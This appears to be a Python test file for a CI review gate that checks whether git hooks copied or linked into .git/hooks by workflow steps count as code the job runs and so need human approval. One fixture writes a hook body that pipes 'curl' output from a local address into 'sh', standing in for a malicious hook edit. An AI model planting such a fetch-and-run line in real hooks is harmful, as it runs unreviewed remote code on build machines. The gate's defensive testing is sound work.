"""Review 67a: a file a CI step copies or links into git's hooks folder is a hook the job runs (issue 12).

Over-reads 6 made a git hook kept outside a hooks folder (`devTools/pre-commit`, `lib/git/commit-msg.hook`) `other`
at any depth and kept `ci` the hooks a CI line runs by path or through `core.hooksPath`. A step that installs one the
other way git knows, by copying or linking it into `.git/hooks/` (`cp devTools/pre-commit .git/hooks/`, `ln -s
../../lib/git/commit-msg.hook .git/hooks/commit-msg`, `install -m 755 ...`, into `$(git rev-parse --git-dir)/hooks`),
makes git run it at the job's next commit, push, merge or checkout: an edit of it was exit 0 (b493f73c; `src`, exit 0,
on c315ac6c). Real git is the truth for what runs; look-alikes (a copy out of the hooks folder, into another folder
named hooks, a printed command) name nothing."""

from __future__ import annotations

import itertools
import subprocess
from pathlib import Path

from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import jobenv

HOOKS = ["devTools/pre-commit", "lib/git/commit-msg.hook", "scripts/git/pre-push"]
# (a command installing {src} as the hook {name}); {up} is the source relative to .git/hooks/ (a symlink's target)
INSTALLS = ["cp {src} .git/hooks/{name}", "cp -f {src} .git/hooks/", "cp {src} ./.git/hooks", "mv {src} .git/hooks/",
            "install -m 755 {src} .git/hooks/{name}", "install -t .git/hooks {src}", "ln -s {up} .git/hooks/{name}",
            "ln -sf {up} .git/hooks/{name}", "ln {src} .git/hooks/{name}",
            'cp {src} "$(git rev-parse --git-dir)/hooks/{name}"', "cp {src} $(git rev-parse --git-path hooks)/{name}",
            'ln -s "$PWD/{src}" .git/hooks/{name}', "sudo cp {src} .git/hooks/{name}"]
AFTER = ["git commit --allow-empty -m ci", "git push --dry-run origin HEAD", "git merge --no-edit origin/main"]


def _line(install: str, hook: str, after: str) -> str:
    name = hook.rpartition("/")[2].removesuffix(".hook")
    return install.format(src=hook, name=name, up="../../" + hook) + " && " + after


CASES = [(hook, install, after, at) for (hook, install), after, at in zip(
    itertools.product(HOOKS, INSTALLS), itertools.cycle(AFTER), itertools.cycle(range(len(BLOCK_DEFINITIONS))))]


def _runs(definition_at: int, line: str) -> set[str]:
    definition, template = BLOCK_DEFINITIONS[definition_at]
    files = {hook: "#!/bin/sh\nexit 0\n" for hook in HOOKS} | {"tools/other": "#!/bin/sh\n",
                                                               definition: template.format(line=line)}
    runs = one_tree_runs(files)
    assert isinstance(runs, dict)
    return {path for path in runs if path in files}


@each_case("hook, install, after, at", CASES)
def test_a_hook_ci_installs_is_run(hook: str, install: str, after: str, at: int) -> None:
    runs = _runs(at, _line(install, hook, after))
    assert hook in runs, (hook, install, sorted(runs))
    assert "tools/other" not in runs


@each_case("folder", ["devTools/", "tools/git-hooks/."])
def test_a_folder_copied_into_the_hooks_folder_names_its_hooks(folder: str) -> None:
    files = {"devTools/pre-commit": "#!/bin/sh\n", "tools/git-hooks/pre-push": "#!/bin/sh\n",
             ".github/workflows/ci.yml": RUN_WORKFLOW.format(run=f"cp -r {folder} .git/hooks/ && git commit -m x")}
    runs = one_tree_runs(files)
    assert isinstance(runs, dict)
    assert {"devTools/pre-commit", "tools/git-hooks/pre-push"} & set(runs), sorted(runs)


# (a CI line, the file it must not name): a sample copied out of the hooks folder, a printed command (a copy into
# another folder still names its source: any command's path words do)
LOOK_ALIKES = [("cp .git/hooks/pre-commit.sample devTools/pre-commit", "devTools/pre-commit"),
               ("echo cp devTools/pre-commit .git/hooks/", "devTools/pre-commit")]


@each_case("line, path", LOOK_ALIKES)
def test_look_alikes_install_nothing(line: str, path: str) -> None:
    assert path not in _runs(0, line), line


def test_real_git_runs_the_installed_hook(tmp_path: Path) -> None:
    """What the tests assume: git runs a hook copied or linked into .git/hooks/ at the next commit."""
    repo = tmp_path / "r"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "devTools").mkdir()
    hook = repo / "devTools" / "pre-commit"
    hook.write_text("#!/bin/sh\necho ran > \"$(git rev-parse --show-toplevel)/ran\"\n")
    hook.chmod(0o755)
    (repo / ".git" / "hooks").mkdir(exist_ok=True)
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../devTools/pre-commit")
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x",
           "PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "-C", str(repo), "commit", "-q", "--allow-empty", "-m", "x"], check=True, env=env)
    assert (repo / "ran").read_text() == "ran\n"


@each_case("run, hook", [("cp devTools/pre-commit .git/hooks/ && git commit --allow-empty -m x", "devTools/pre-commit"),
                         ("ln -sf ../../lib/git/commit-msg.hook .git/hooks/commit-msg", "lib/git/commit-msg.hook"),
                         ('cp -r devTools/ "$(git rev-parse --git-dir)/hooks/" && git commit -m x',
                          "devTools/pre-commit"),
                         ("cp tools/pre-push $(git rev-parse --git-path hooks)/ && git push", "tools/pre-push")])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, hook: str) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), hook: "#!/bin/sh\nexit 0\n", "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {hook: "#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])


def test_a_long_line_is_read_in_linear_time() -> None:
    assert_linear(jobenv.loaded, repeated("cp a .git/hooks/ b ", tail="\n"), budget=0.5)
    assert_linear(jobenv.loaded, repeated("x && ", head="hooks ", tail="\n"), budget=0.5)
